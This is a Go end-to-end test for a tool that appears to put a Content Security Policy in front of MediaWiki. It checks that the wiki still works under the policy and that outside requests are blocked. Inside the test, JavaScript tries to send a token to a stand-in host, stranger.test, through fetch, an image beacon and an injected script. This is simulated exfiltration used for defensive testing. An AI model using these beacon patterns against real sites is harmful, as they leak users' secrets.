package e2e

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"sallyport/internal/browsertest"
)

// Under the enforced policy everything of the wiki's own works; what a page asks of a stranger is blocked, told, and can be
// made into a policy.
func TestTheWikiWorksUnderItsPolicyAndStrangersAreNotReached(t *testing.T) {
	for name, open := range map[string]func(*testing.T, string) *site{"mediawiki": realWiki, "fakewiki": pretendWiki} {
		t.Run(name, func(t *testing.T) {
			g := guard(t, open, "[policy]\nmode = \"enforce\"\n")
			p := browsertest.Start(t).NewPage(t)
			g.login(p, "Admin")
			for _, title := range []string{"Main_Page", "Special:RecentChanges", "Special:Preferences", "Sandbox&action=history"} {
				p.Goto(g.page(title))
				p.WaitFor("window.mw && mw.loader.getState( 'mediawiki.base' ) === 'ready'")
			}
			g.editForm(p, "Sandbox", "under a policy")
			if got := strings.TrimSpace(g.raw("Sandbox")); got != "under a policy" {
				t.Errorf("the page is %q", got)
			}
			for _, m := range p.Console() {
				if strings.Contains(m.Text, "Content Security Policy") {
					t.Errorf("the wiki itself is stopped: %s", m.Text)
				}
			}
			blocked := browsertest.Eval[[]string](p, `new Promise( ( done ) => {
				const seen = [];
				document.addEventListener( 'securitypolicyviolation', ( e ) => { seen.push( e.effectiveDirective + ' ' + e.blockedURI.replace( /\?.*/, '' ) ); if ( seen.length === 3 ) { done( seen.sort() ); } } );
				fetch( 'https://stranger.test/x?token=secret' ).catch( () => {} );
				new Image().src = 'https://stranger.test/y?token=secret';
				document.head.append( Object.assign( document.createElement( 'script' ), { src: 'https://stranger.test/z' } ) );
			} )`)
			if got := fmt.Sprint(blocked); got != "[connect-src https://stranger.test/x img-src https://stranger.test/y script-src-elem https://stranger.test/z]" {
				t.Errorf("blocked: %s", got)
			}
			g.everyAnswerHasAPolicy()
			for _, directive := range []string{"connect-src", "img-src", "script-src-elem"} {
				g.eventually(directive+" is kept and can be derived from", func() bool {
					said := g.sally("csp", "derive", "--config", g.file, "--people", "1", "--seen-days", "1", "--page", g.front+"/")
					return strings.Contains(said, directive) && strings.Contains(said, "https://stranger.test") && !strings.Contains(said, "secret")
				})
			}
		})
	}
}

// everyAnswerHasAPolicy: a frame or worker made of an answer without one would be free.
func (g *guarded) everyAnswerHasAPolicy() {
	g.Helper()
	for _, path := range []string{
		"/load.php?modules=startup&only=scripts", "/api.php?action=query&meta=siteinfo&format=json", "/index.php?title=Sandbox&action=raw", "/rest.php/v1/page/Sandbox",
		"/index.php?title=Nowhere", "/no/such/file",
	} {
		r, err := local.Get(g.front + g.script + path)
		if err != nil {
			g.Fatal(err)
		}
		_ = r.Body.Close()
		if got := r.Header.Get("Content-Security-Policy"); !strings.Contains(got, "default-src 'self'") || len(got) > 2048 {
			g.Errorf("%s (%d) comes with %d bytes of policy: %q", path, r.StatusCode, len(got), got)
		}
	}
	r, err := local.Get(g.front + "/sallyport/")
	if err != nil {
		g.Fatal(err)
	}
	_ = r.Body.Close()
	if got := r.Header.Values("Content-Security-Policy"); r.StatusCode != http.StatusOK || len(got) != 1 || strings.Contains(got[0], "unsafe") {
		g.Errorf("our own page comes with %q (%d)", got, r.StatusCode)
	}
}
